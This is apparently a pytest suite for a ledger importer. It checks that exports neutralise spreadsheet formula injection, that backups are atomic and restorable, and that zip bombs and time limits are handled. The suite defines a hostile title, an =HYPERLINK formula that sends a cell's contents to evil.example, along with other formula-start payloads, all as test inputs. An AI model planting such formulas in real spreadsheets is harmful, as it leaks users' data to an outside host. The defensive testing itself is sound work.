"""Issue 14: the ledger importer and the files the app writes, against an attacker and a careless user."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

import ledger_fixtures as F
from ipmd import db as ipmd_db, queries
from ipmd.allocation import report as allocation
from ipmd.cells import safe_frame, safe_text, unquote
from ipmd.ledger.export import export_ledger
from ipmd.ledger.store import import_ledger

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A2, "Details")'
FORMULAS = [HOSTILE_TITLE, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def fixture_db(tmp_path):
    (tmp_path / "data").mkdir()
    return F.make_fixture_db(tmp_path / "data" / "ipmd.duckdb")


# ------------------------------------------------------------------------ item 4: formulas in exports

@pytest.mark.parametrize("text", FORMULAS)
def test_safe_text_quotes_every_formula_start_and_unquote_undoes_it(text):
    assert safe_text(text) == "'" + text
    assert unquote(safe_text(text)) == text
    assert safe_text("Remittances = development") == "Remittances = development"
    assert safe_text(-5.0) == -5.0 and unquote("'quoted on purpose") == "'quoted on purpose"


def test_csv_download_bytes_hold_no_live_formula():
    from components.downloads import csv_bytes
    formulas = FORMULAS[:5]
    frame = pd.DataFrame({"title": formulas, "amount": [-1.5, 2, 3, 4, 5]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in formulas]
    assert rows[1][1] == "-1.5"                                   # a negative number stays a number


def _decision_sheet_with_title(title: str, db_path) -> allocation.DecisionSheet:
    """The decision sheet of a ledger's first pipeline proposal, retitled."""
    con = ipmd_db.connect(db_path)
    book = queries.ledger(con)
    pipe = allocation.pipeline_from(book, queries.countries(con))
    pid = pipe["project_id"].iloc[0]
    projects = book["projects"].copy()
    projects.loc[projects["project_id"] == pid, "title"] = title
    book = {**book, "projects": projects}
    selection = ((pid, None),)
    result = allocation.effects_from(book, selection, ())
    return allocation.decision_sheet_from(book, queries.countries(con), result, allocation.envelope_from(book),
                                          queries.meta(con), "2026-01-01T00:00:00+00:00", 2024)


def test_decision_sheet_xlsx_and_csv_keep_a_hostile_title_as_text(fixture_db):
    assert import_ledger(F.xlsx_bytes(F.valid_ledger()), "ledger.xlsx", fixture_db).ok   # a ledger with a pipeline
    sheet = _decision_sheet_with_title(HOSTILE_TITLE, fixture_db)
    wb = openpyxl.load_workbook(io.BytesIO(allocation.sheet_xlsx(sheet)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell of the workbook is a formula"
    assert any(c.value in (HOSTILE_TITLE, "'" + HOSTILE_TITLE) for c in cells)
    text = allocation.sheet_csv(sheet).decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert "'" + HOSTILE_TITLE in fields
    assert not [f for f in fields if f.startswith(("=", "+", "@"))]


def test_ledger_csv_export_quotes_formulas_and_reimports_them_unchanged(fixture_db):
    t = F.copy_tables(F.valid_ledger())
    t["projects"].iloc[0, t["projects"].columns.get_loc("title")] = HOSTILE_TITLE
    t["donors"].iloc[0, t["donors"].columns.get_loc("name")] = "@donor"
    assert import_ledger(F.xlsx_bytes(t), "ledger.xlsx", fixture_db).ok
    exported = export_ledger(fixture_db, "csv")
    with zipfile.ZipFile(io.BytesIO(exported)) as zf:
        projects = zf.read("projects.csv").decode("utf-8")
    titles = [r["title"] for r in csv.DictReader(io.StringIO(projects))]
    assert "'" + HOSTILE_TITLE in titles and HOSTILE_TITLE not in titles
    again = import_ledger(exported, "ledger.zip", fixture_db)
    assert again.ok, again.report_lines()
    frames = queries.ledger(__import__("duckdb").connect(str(fixture_db), read_only=True))
    assert HOSTILE_TITLE in set(frames["projects"]["title"])
    assert "@donor" in set(frames["donors"]["name"])


def test_ledger_xlsx_export_stores_formula_text_as_text(fixture_db):
    t = F.copy_tables(F.valid_ledger())
    t["projects"].iloc[0, t["projects"].columns.get_loc("title")] = HOSTILE_TITLE
    assert import_ledger(F.xlsx_bytes(t), "ledger.xlsx", fixture_db).ok
    wb = openpyxl.load_workbook(io.BytesIO(export_ledger(fixture_db, "xlsx")))
    cells = [c for row in wb["projects"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HOSTILE_TITLE in [c.value for c in cells]


def test_safe_frame_leaves_numbers_and_dates_alone():
    frame = pd.DataFrame({"a": ["=1", "x"], "n": [-1, 2], "d": pd.to_datetime(["2020-01-01", "2021-01-01"])})
    out = safe_frame(frame)
    assert out["a"].tolist() == ["'=1", "x"] and out["n"].tolist() == [-1, 2]
    assert out["d"].equals(frame["d"])


# ------------------------------------------------------------------- item 6: mode and owner are kept

def test_import_keeps_the_database_file_mode(fixture_db):
    import os
    import stat
    os.chmod(fixture_db, 0o644)
    owner = (fixture_db.stat().st_uid, fixture_db.stat().st_gid)
    assert import_ledger(F.xlsx_bytes(F.valid_ledger()), "ledger.xlsx", fixture_db).ok
    assert stat.S_IMODE(fixture_db.stat().st_mode) == 0o644
    assert (fixture_db.stat().st_uid, fixture_db.stat().st_gid) == owner
    os.chmod(fixture_db, 0o640)
    assert import_ledger(F.xlsx_bytes(F.shaped_ledger()), "ledger.xlsx", fixture_db).ok
    assert stat.S_IMODE(fixture_db.stat().st_mode) == 0o640


# ------------------------------------------------- item 8: atomic backups, stale temporaries, pruning

def test_a_killed_backup_copy_leaves_no_backup_under_a_normal_name(fixture_db, monkeypatch):
    import shutil

    from ipmd.ledger import store
    before = F.sha256(fixture_db)
    real_copy = shutil.copyfile

    def dies_half_way(src, dst, *a, **k):
        if ".partial-" in str(dst):           # the backup copy: write half, then "kill -9"
            data = open(src, "rb").read()
            open(dst, "wb").write(data[:len(data) // 2])
            raise KeyboardInterrupt("killed")
        return real_copy(src, dst, *a, **k)

    monkeypatch.setattr(store.shutil, "copyfile", dies_half_way)
    with pytest.raises(KeyboardInterrupt):
        import_ledger(F.xlsx_bytes(F.valid_ledger()), "ledger.xlsx", fixture_db)
    monkeypatch.setattr(store.shutil, "copyfile", real_copy)
    assert F.sha256(fixture_db) == before
    assert store.backup_paths(fixture_db) == []
    assert store.list_backups(fixture_db) == []


def test_stale_temporaries_are_cleaned_at_the_start_of_an_import(fixture_db):
    from ipmd.ledger import store
    folder = fixture_db.parent
    stale = [folder / "ipmd.duckdb.tmp-import-abc123", folder / "ipmd.duckdb.tmp-import-abc123.wal"]
    (folder / "backups").mkdir(exist_ok=True)
    stale.append(folder / "backups" / "ipmd-20260101T000000.duckdb.partial-xyz")
    for path in stale:
        path.write_bytes(b"left by a killed import")
    unrelated = folder / "notes.txt"
    unrelated.write_text("keep me")
    assert import_ledger(F.xlsx_bytes(F.valid_ledger()), "ledger.xlsx", fixture_db).ok
    assert not [p for p in stale if p.exists()]
    assert unrelated.exists()
    assert sorted(p.name for p in folder.iterdir()) == ["backups", "ipmd.duckdb", "notes.txt"]


def test_backups_are_pruned_to_ipmd_keep_backups_and_listed(fixture_db, monkeypatch):
    from ipmd.ledger import store
    monkeypatch.setenv("IPMD_KEEP_BACKUPS", "2")
    hashes = []
    for seed in (1, 2, 3, 4):
        result = import_ledger(F.xlsx_bytes(F.valid_ledger(seed=seed)), "ledger.xlsx", fixture_db)
        assert result.ok
        hashes.append(result.content_hash)
    kept = store.list_backups(fixture_db)
    assert len(kept) == 2
    assert [b.content_hash for b in kept] == hashes[1:3]        # the databases replaced by imports 3 and 4
    assert all(b.ledger_kind == "real" and b.size > 0 and b.made_at.endswith("UTC") for b in kept)


def test_restore_puts_a_backup_back_atomically_and_backs_up_the_current_one(fixture_db):
    from ipmd.ledger import store
    first = import_ledger(F.xlsx_bytes(F.valid_ledger(seed=1)), "ledger.xlsx", fixture_db)
    second = import_ledger(F.xlsx_bytes(F.valid_ledger(seed=2)), "ledger.xlsx", fixture_db)
    import os
    os.chmod(fixture_db, 0o644)
    previous, digest = store.restore_backup(second.backup_path.name, fixture_db)
    assert digest == first.content_hash
    assert store.backup_info(fixture_db).content_hash == first.content_hash
    assert store.backup_info(previous).content_hash == second.content_hash
    assert oct(fixture_db.stat().st_mode & 0o777) == oct(0o644)
    with pytest.raises(FileNotFoundError):
        store.restore_backup("no-such-backup.duckdb", fixture_db)
    junk = fixture_db.parent / "backups" / "ipmd-20200101T000000.duckdb"
    junk.write_bytes(b"not a database")
    before = F.sha256(fixture_db)
    with pytest.raises(ValueError):
        store.restore_backup(junk.name, fixture_db)
    assert F.sha256(fixture_db) == before


def test_cli_lists_backups_and_restores(fixture_db):
    import subprocess
    import sys

    from ipmd import REPO_ROOT
    first = import_ledger(F.xlsx_bytes(F.valid_ledger(seed=1)), "ledger.xlsx", fixture_db)
    import_ledger(F.xlsx_bytes(F.valid_ledger(seed=2)), "ledger.xlsx", fixture_db)

    def cli(*args):
        return subprocess.run([sys.executable, "-m", "ipmd.ledger", *args, "--db", str(fixture_db)],
                              cwd=REPO_ROOT, capture_output=True, text=True, timeout=120)
    listed = cli("backups")
    assert listed.returncode == 0
    names = [b.path.name for b in __import__("ipmd.ledger.store", fromlist=["x"]).list_backups(fixture_db)]
    assert len(names) == 2 and all(n in listed.stdout for n in names)
    assert "illustrative" in listed.stdout and "real" in listed.stdout and first.content_hash[:16] in listed.stdout
    restored = cli("restore", names[-1])
    assert restored.returncode == 0, restored.stdout + restored.stderr
    from ipmd.ledger.store import backup_info
    assert backup_info(fixture_db).content_hash == first.content_hash
    missing = cli("restore", "nothing.duckdb")
    assert missing.returncode == 1 and "no backup" in missing.stdout.lower()


# ------------------------------------------------------------------ items 2, 3, 7: bombs, size, time

def test_a_csv_zip_bomb_is_stopped_at_the_limit_without_decompressing_it_all(fixture_db, tmp_path):
    import tracemalloc

    from test_ledger_broken_files import csv_bomb_honest
    data, name = csv_bomb_honest(None, tmp_path)
    tracemalloc.start()
    try:
        result = import_ledger(data, name, fixture_db, dry_run=True)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert not result.ok and "expand to more than 20.0 MB" in result.problems[0].message
    assert peak < 60 << 20, f"peak {peak / 2**20:.0f} MB: the 150 MB member was decompressed beyond the limit"


def test_reading_and_checking_stop_at_the_time_limit_with_a_clear_problem(fixture_db):
    before = F.sha256(fixture_db)
    result = import_ledger(F.xlsx_bytes(F.valid_ledger()), "ledger.xlsx", fixture_db, seconds=0)
    assert not result.ok and len(result.problems) == 1
    message = result.problems[0].message
    assert "longer than the 0-second limit" in message and "50,000 rows per sheet" in message
    assert F.sha256(fixture_db) == before


def test_progress_is_reported_and_a_visitor_who_left_stops_the_work(fixture_db):
    seen = []
    result = import_ledger(F.xlsx_bytes(F.valid_ledger()), "ledger.xlsx", fixture_db, dry_run=True,
                           progress=lambda done, stage: seen.append((done, stage)))
    assert result.ok and seen and all(0 <= d <= 1 for d, _ in seen)

    class Left(Exception):
        pass

    def gone(done, stage):
        raise Left(stage)                     # what Streamlit does to a script whose session has ended

    before = F.sha256(fixture_db)
    with pytest.raises(Left):
        import_ledger(F.xlsx_bytes(F.valid_ledger()), "ledger.xlsx", fixture_db, progress=gone)
    assert F.sha256(fixture_db) == before


def test_a_valid_dry_run_is_written_without_validating_again(fixture_db, monkeypatch):
    from ipmd.ledger import store
    source = F.xlsx_bytes(F.valid_ledger())
    checked = import_ledger(source, "ledger.xlsx", fixture_db, dry_run=True)
    assert checked.ok and checked.prepared is not None
    calls = []
    monkeypatch.setattr(store, "validate", lambda *a: calls.append(a) or (_ for _ in ()).throw(AssertionError))
    done = store.commit_import(checked, source, "ledger.xlsx", fixture_db)
    assert done.ok and not calls and done.backup_path is not None


def test_a_dry_run_is_validated_again_when_the_database_changed_since(fixture_db):
    from ipmd.ledger import store
    source = F.xlsx_bytes(F.valid_ledger(seed=1))
    checked = import_ledger(source, "ledger.xlsx", fixture_db, dry_run=True)
    assert import_ledger(F.xlsx_bytes(F.valid_ledger(seed=2)), "other.xlsx", fixture_db).ok
    done = store.commit_import(checked, source, "ledger.xlsx", fixture_db)
    assert done.ok and done.backup_path is not None
    assert done.content_hash == store.backup_info(fixture_db).content_hash


# --------------------------------------------------------------------------- item 9: validation gaps

def test_utf16_iati_is_read(fixture_db):
    text = F.iati_xml().decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    for data in (text.encode("utf-16"), text.encode("utf-16-le"), text.encode("utf-16-be")):
        result = import_ledger(data, "fund.xml", fixture_db, dry_run=True)
        assert not any("not an XML file" in p.message for p in result.problems), result.report_lines()
        utf8 = import_ledger(F.iati_xml(), "fund.xml", fixture_db, dry_run=True)
        assert result.counts == utf8.counts and result.ok == utf8.ok


@pytest.mark.parametrize("version,accepted", [("2.01", True), ("2.02", True), ("2.03", True), ("1.05", False),
                                              ("3.01", False), ("2.1", False), ("20.3", False)])
def test_only_iati_2_0x_is_accepted(fixture_db, version, accepted):
    data = F.iati_xml().replace(b'version="2.03"', f'version="{version}"'.encode())
    result = import_ledger(data, "fund.xml", fixture_db, dry_run=True)
    refused = any("This is IATI version" in p.message for p in result.problems)
    assert refused != accepted


def test_a_percentage_in_words_is_a_problem_not_equal_shares(fixture_db):
    data = F.iati_xml().replace(b'code="MX" percentage="40"', b'code="MX" percentage="forty"')
    result = import_ledger(data, "fund.xml", fixture_db, dry_run=True)
    assert not result.ok
    assert not any("equal shares" in w for w in result.warnings)


def test_one_wrong_encoding_is_reported_once(fixture_db, tmp_path):
    from test_ledger_broken_files import non_utf8_csv
    folder, _ = non_utf8_csv(F.valid_ledger(), tmp_path)
    result = import_ledger(folder, None, fixture_db, dry_run=True)
    assert [p.file for p in result.problems] == ["donors.csv"], result.report_lines()
    assert "not UTF-8" in result.problems[0].message
    assert any("References to the donors sheet were not checked" in w for w in result.warnings)


def test_every_problem_in_one_pass_totals_included(fixture_db):
    from test_ledger_broken_files import over_disbursement, set_cell
    t = F.copy_tables(F.valid_ledger())
    over_disbursement(t)
    set_cell("projects", 0, "partner_id", None)(t)
    set_cell("projects", 1, "status", "maybe")(t)
    result = import_ledger(F.xlsx_bytes(t), "ledger.xlsx", fixture_db, dry_run=True)
    messages = " | ".join(p.message for p in result.problems)
    assert "partner_id is empty" in messages and "'maybe' is not one of the allowed values" in messages
    assert "disbursements may not exceed commitments to date" in messages, messages


def test_an_iati_file_over_the_row_limit_is_refused(fixture_db, monkeypatch):
    from ipmd.ledger import iati
    assert import_ledger(F.iati_xml(), "fund.xml", fixture_db, dry_run=True).counts["transactions"] > 3
    monkeypatch.setattr(iati, "MAX_ROWS", 3)
    result = import_ledger(F.iati_xml(), "fund.xml", fixture_db, dry_run=True)
    assert not result.ok and [p.file for p in result.problems] == ["fund.xml"]
    assert "more than 3 transactions rows" in result.problems[0].message


def test_backups_made_in_one_second_keep_their_order_through_pruning(fixture_db, monkeypatch):
    import datetime as real_dt
    import types

    from ipmd.ledger import store

    class Frozen(real_dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return real_dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=tz)

    monkeypatch.setattr(store, "dt", types.SimpleNamespace(datetime=Frozen, timezone=real_dt.timezone))
    monkeypatch.setenv("IPMD_KEEP_BACKUPS", "2")
    hashes = [import_ledger(F.xlsx_bytes(F.valid_ledger(seed=s)), "l.xlsx", fixture_db).content_hash
              for s in (1, 2, 3, 4)]
    kept = store.list_backups(fixture_db)
    assert [b.path.name for b in kept] == ["ipmd-20260102T030405-3.duckdb", "ipmd-20260102T030405-4.duckdb"]
    assert [b.content_hash for b in kept] == hashes[1:3]
